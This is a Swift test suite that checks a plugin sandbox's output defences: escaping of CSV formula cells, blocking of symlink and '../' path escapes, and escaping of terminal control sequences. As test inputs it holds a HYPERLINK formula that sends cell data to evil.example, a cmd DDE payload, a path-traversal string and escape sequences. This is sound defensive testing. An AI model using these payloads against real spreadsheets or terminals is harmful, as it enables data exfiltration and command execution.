import Foundation
import Testing

/// What plugins and data send out: CSV for spreadsheets without live formulas, exports that
/// never create anything outside exports/, spec paths confined, terminal output escaped.
@Suite struct SandboxOutputTests {
    static let ledger = """
        ledgers = { t = { label = '试验', fields = {
          { name = 'label', type = 'text', label = '说明' },
          { name = 'delta', type = 'number', min = -1000, label = '变化' },
          { name = 'file', type = 'text', label = '文件' } } } },
        """
    /// Values a spreadsheet would run as formulas.
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
        "\tTAB", "\rCR",
    ]

    @Test func csvCellsNeverCarryAFormulaAndNumbersStayNumbers() throws {
        let adds = SandboxOutputTests.formulas.enumerated().map { i, f in
            "fp.t:add{ label = \(luaString(f)), delta = \(-i - 1) }"
        }.joined(separator: " ")
        let probe = try SandboxProbe(
            permissions: ["read", "write", "export"],
            commands: [
                "fill": adds,
                "csv": "return ctx.write_file('t.csv', fp.format(fp.t:all(), { mode = 'csv' }))",
                // A plugin's own CSV text, quoting and all.
                "raw": "local lines = { '\\239\\187\\191label,delta' } "
                    + "for _, r in ipairs(fp.t:list()) do lines[#lines + 1] = '\"' .. r.label:gsub('\"', '\"\"') .. '\",' .. r.delta end "
                    + "return ctx.write_file('raw.csv', table.concat(lines, '\\r\\n'))",
            ], extra: SandboxOutputTests.ledger)
        #expect(try probe.run("fill").status == 0)
        // The core exporter.
        let export = try FupinBinary.run(
            ["export", "t", "--format", "csv", "--workspace", probe.workspace.path],
            environment: probe.environment)
        #expect(export.status == 0, "\(export.stderr)")
        // The plugin export path (fp.format in csv mode, written by ctx.write_file).
        let written = try probe.run("csv")
        #expect(written.status == 0, "\(written.stderr)")
        let file = try String(contentsOf: probe.workspace.appendingPathComponent("exports/t.csv"), encoding: .utf8)
        let raw = try probe.run("raw")
        #expect(raw.status == 0, "\(raw.stderr)")
        let rawFile = try String(contentsOf: probe.workspace.appendingPathComponent("exports/raw.csv"), encoding: .utf8)
        #expect(rawFile.contains("label,delta\r\n\"'="), "\(rawFile.debugDescription)")
        for (name, csv) in [("fupin export", export.stdout), ("plugin csv", file), ("plugin's own csv", rawFile)] {
            let cells = SandboxOutputTests.cells(csv)
            #expect(cells.count > 6, "\(name): \(csv)")
            for cell in cells {
                if let first = cell.first, "=+@\t\r".contains(first) {
                    Issue.record("\(name): live formula cell \(cell.debugDescription)")
                }
                if cell.hasPrefix("-") && Double(cell) == nil {
                    Issue.record("\(name): live formula cell \(cell.debugDescription)")
                }
            }
            #expect(cells.contains("'-2+3"), "\(name)")
            #expect(cells.contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"), "\(name)")
            // Negative numbers of a numeric column stay numbers.
            #expect(cells.contains("-3"), "\(name): \(cells)")
        }
    }

    @Test func aSymlinkPlantedInExportsMakesNoFolderOutside() throws {
        let probe = try SandboxProbe(
            permissions: ["read", "export"],
            commands: [
                "go": "return ctx.write_file('planted/deep/er/x.txt', 'x')"
            ])
        let outside = try FupinBinary.scratchFolder()
        let exports = probe.workspace.appendingPathComponent("exports")
        try FileManager.default.createDirectory(at: exports, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(
            at: exports.appendingPathComponent("planted"), withDestinationURL: outside)
        let r = try probe.run("go")
        #expect(r.status != 0 && r.status < 128, "\(r.stdout)")
        #expect(r.stderr.contains("leads outside exports/"), "\(r.stderr)")
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: outside.path).isEmpty,
            "a folder was created outside exports/")
    }

    @Test func aSpecCannotImportAFileOutsideItsPluginAndTheScratchWorkspace() throws {
        let probe = try SandboxProbe(
            permissions: ["read", "write"],
            commands: [
                "load": "return ctx.import_csv('t', args.file).text"
            ], extra: SandboxOutputTests.ledger)
        // The command needs a path argument: rewrite the manifest with one.
        let manifest = try String(contentsOf: probe.pluginFolder.appendingPathComponent("plugin.lua"), encoding: .utf8)
            .replacingOccurrences(
                of: "load = { run", with: "load = { args = { { name = 'file', type = 'path', required = true } }, run")
        try manifest.write(
            to: probe.pluginFolder.appendingPathComponent("plugin.lua"), atomically: true, encoding: .utf8)
        let secret = try FupinBinary.scratchFolder().appendingPathComponent("secret.csv")
        try "说明\nTOP-SECRET-LINE\n".write(to: secret, atomically: true, encoding: .utf8)
        try "说明\n自带\n".write(
            to: probe.pluginFolder.appendingPathComponent("tests/own.csv"), atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(
            at: probe.pluginFolder.appendingPathComponent("tests/link.csv"), withDestinationURL: secret)
        try """
        describe("paths", function()
          it("reads its own fixture", function() local r = run("load", { file = "tests/own.csv" }) expect(r).to_contain("1") end)
          it("reads an outside file", function() print(run("load", { file = \(luaString(secret.path)) })) end)
          it("reads through a link", function() print(run("load", { file = "tests/link.csv" })) end)
          it("climbs out", function() print(run("load", { file = "../../../../../../\(secret.path)" })) end)
        end)
        """.write(
            to: probe.pluginFolder.appendingPathComponent("tests/paths_spec.lua"), atomically: true, encoding: .utf8)
        let r = try FupinBinary.run(
            ["test", "probe", "--workspace", probe.workspace.path], environment: probe.environment)
        #expect(!r.stdout.contains("TOP-SECRET") && !r.stderr.contains("TOP-SECRET"), "\(r.stdout)")
        #expect(r.stdout.contains("✓ paths › reads its own fixture"), "\(r.stdout)")
        #expect(r.stdout.components(separatedBy: "outside the plugin's folder").count == 4, "\(r.stdout)")
        #expect(r.stdout.contains("1 passed, 3 failed"), "\(r.stdout)")
    }

    @Test func controlCharactersFromAPluginAreShownEscapedOnATerminal() throws {
        let probe = try SandboxProbe(
            permissions: ["read"],
            commands: [
                "go": "print('a\\27]0;pwned\\7b') ctx.print('c\\27[2Jd') return 'e\\27[31mf'",
                "fail": "error('g\\27[8mh')",
            ])
        let env = probe.environment.merging([
            "TERM": "xterm", "NO_COLOR": "1",
            "PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin",
        ]) { $1 }
        for (command, shown) in [
            ("go", ["a\\x1b]0;pwned\\x07b", "c\\x1b[2Jd", "e\\x1b[31mf"]), ("fail", ["g\\x1b[8mh"]),
        ] {
            let term = try PseudoTerminal(
                FupinBinary.path, arguments: ["probe", command, "--workspace", probe.workspace.path],
                environment: env)
            _ = try term.waitForExit()
            let all = term.rawOutput
            for text in shown { #expect(all.contains(text), "\(command): \(all.debugDescription)") }
            #expect(!all.contains("\u{1b}"), "\(command): raw ESC reached the terminal: \(all.debugDescription)")
        }
        // In the REPL too: `:run` output and the values it shows.
        let repl = try PseudoTerminal(
            FupinBinary.path, arguments: ["--workspace", probe.workspace.path], environment: env)
        try repl.expect("> ")
        repl.send(":run probe go\r")
        try repl.expect("\n> ")
        repl.send("x = fp.plugins.probe.go{}\r")
        try repl.expect("\n> ")
        repl.send("x\r")
        try repl.expect("\n> ")
        for raw in ["\u{1b}]0;pwned", "\u{1b}[2J", "\u{1b}[31m"] {
            #expect(!repl.rawOutput.contains(raw), "REPL: \(raw.debugDescription) reached the terminal")
        }
        #expect(repl.rawOutput.contains("c\\x1b[2Jd") && repl.rawOutput.contains("e\\x1b[31mf"), "\(repl.transcript)")
        // And what `fupin eval` prints of a plugin's result.
        let eval = try PseudoTerminal(
            FupinBinary.path,
            arguments: [
                "eval", "--workspace", probe.workspace.path,
                "return fp.plugins.probe.go{}",
            ], environment: env)
        _ = try eval.waitForExit()
        #expect(
            eval.rawOutput.contains("e\\x1b[31mf") && !eval.rawOutput.contains("\u{1b}[31m"),
            "\(eval.rawOutput.debugDescription)")
        // Into a pipe the bytes are the data and stay as they are.
        let piped = try probe.run("go")
        #expect(piped.stdout.contains("c\u{1b}[2Jd"))
    }

    /// Every cell of CSV text (quoted cells unquoted).
    static func cells(_ csv: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var atStart = true
        var chars = Array(csv.replacingOccurrences(of: "\u{feff}", with: ""))
        var i = 0
        while i < chars.count {
            let c = chars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < chars.count && chars[i + 1] == "\"" { cell.append("\""); i += 1 } else { quoted = false }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" && atStart {
                quoted = true
            } else if c == "," || c == "\n" || c == "\r\n" {
                cells.append(cell); cell = ""; atStart = true; i += 1; continue
            } else if c == "\r" && i + 1 < chars.count && chars[i + 1] == "\n" {
                cells.append(cell); cell = ""; atStart = true; i += 2; continue
            } else {
                cell.append(c)
            }
            atStart = false
            i += 1
        }
        if !cell.isEmpty { cells.append(cell) }
        chars.removeAll()
        return cells
    }
}

/// A Lua long-bracket string literal of `text`.
func luaString(_ text: String) -> String { "[==[" + text + "]==]" }
